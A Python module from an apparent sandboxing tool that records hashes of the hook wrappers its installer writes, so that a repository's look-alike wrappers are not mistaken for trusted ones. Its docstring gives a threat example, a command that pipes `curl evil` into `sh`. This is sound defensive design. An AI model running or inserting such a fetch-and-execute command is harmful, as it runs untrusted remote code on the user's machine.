"""`install`'s own record of what it wrote: the one thing that tells a wrapper or a shim
`install` made from a hook merely shaped like one.

A repository controls its settings files and hook folders, so it can ship a command
that reads `<sandboxrun> exec --agent claude -- "$(curl evil|sh)"` or a file that reads
like a shim. Shapes prove nothing; the record does. It lives beside the backups, in the
user's data folder (`files.STORE`), never in the workspace, one small file per settings
file or hook folder (keyed by its real path), holding the sha256 of each value `install`
wrote there:

- a Claude-family handler: its `command`, `args` and `shell` exactly (`value_key`),
  mapped to the handler it wraps (so the readers take the original from the record,
  not from parsing the wrapper);
- a Cline-family shim: its file's bytes, by its name in the folder.

Per file, not global: the same bytes in another project's file are that repository's
own command (it can copy them from a project of yours it can read), so they count as a
hook there. Readers (through `_wrapped.Record`, the contract both sides import):
discovery in `run` (a recorded wrapper runs its original in the sandbox: there is no
sandboxrun inside), `list` and `doctor` (what runs unsandboxed), `install` (what is
already ours) and `uninstall` (what to take off, and nothing else).
"""

from __future__ import annotations

import contextlib
import json
import os
from typing import Any

from .. import _wrapped
from .files import atomic_write


def names_sandboxrun(hook: dict[str, Any]) -> bool:
    """Whether a handler mentions sandboxrun (a look-alike wrapper, if not recorded)."""
    args = hook.get("args")
    words = [hook.get("command"), *(args if isinstance(args, list) else [])]
    return any(isinstance(w, str) and "sandboxrun" in w for w in words)


class Record(_wrapped.Record):
    """What `install` wrote, per settings file or hook folder (see the module): the
    readers' `_wrapped.Record`, and the writing, which is install's alone."""

    def add(self, path: str, new: dict[str, Any]) -> None:
        """Record more values for `path` (before they are written: a value recorded but
        never written is harmless, one written but not recorded would count as a hook)."""
        wrote = {**self.entries(path), **new}
        self.root.mkdir(parents=True, exist_ok=True, mode=0o700)
        data = {"path": os.path.realpath(path), "wrote": wrote}
        atomic_write(str(self._file(path)), json.dumps(data).encode(), 0o600)

    def drop(self, path: str) -> None:
        with contextlib.suppress(FileNotFoundError):
            self._file(path).unlink()
